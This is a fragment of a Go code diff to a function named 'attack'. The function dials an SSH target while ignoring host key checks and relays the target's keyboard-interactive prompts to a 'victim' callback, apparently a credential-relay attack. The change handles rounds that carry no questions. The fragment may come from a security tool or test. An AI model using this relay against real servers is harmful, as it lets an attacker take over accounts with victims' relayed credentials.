@@ -73,7 +73,13 @@ func attack(target, user string, victim ssh.KeyboardInteractiveChallenge) (strin
 	c, err := ssh.Dial("tcp", target, &ssh.ClientConfig{
 		User: user, HostKeyCallback: ssh.InsecureIgnoreHostKey(),
 		BannerCallback: func(m string) error { told = append(told, strings.TrimSpace(m)); return nil },
-		Auth:           []ssh.AuthMethod{ssh.KeyboardInteractive(ssh.KeyboardInteractiveChallenge(victim))},
+		Auth: []ssh.AuthMethod{ssh.KeyboardInteractive(func(name, instruction string, questions []string, echos []bool) ([]string, error) {
+			if len(questions) == 0 {
+				told = append(told, strings.TrimSpace(instruction))
+				return nil, nil
+			}
+			return victim(name, instruction, questions, echos)
+		})},
 	})
 	if err != nil {
 		return "", fmt.Errorf("%s (%w)", strings.Join(told, " "), err)
